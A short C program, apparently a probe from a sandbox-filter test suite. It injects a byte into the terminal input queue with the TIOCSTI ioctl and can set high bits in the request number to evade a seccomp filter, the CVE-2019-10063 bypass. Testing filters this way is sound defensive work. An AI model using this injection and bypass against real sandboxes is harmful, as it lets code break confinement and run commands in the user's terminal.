/* Attack helper: push one byte into the input queue of the terminal on fd 0 with TIOCSTI.
 * With "wide", the request carries junk in its upper 32 bits (CVE-2019-10063): the kernel
 * truncates it to TIOCSTI, so a filter comparing all 64 bits would let it through.
 * Prints "tiocsti ok" or "tiocsti errno N" and exits 0 either way. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv) {
    char byte = argc > 2 ? argv[2][0] : 'Z';
    unsigned long request = TIOCSTI;
    if (argc > 1 && strcmp(argv[1], "wide") == 0)
        request |= 0x100000000UL;
    long rc = syscall(SYS_ioctl, 0, request, &byte);
    if (rc == 0)
        printf("tiocsti ok\n");
    else
        printf("tiocsti errno %d\n", errno);
    return 0;
}
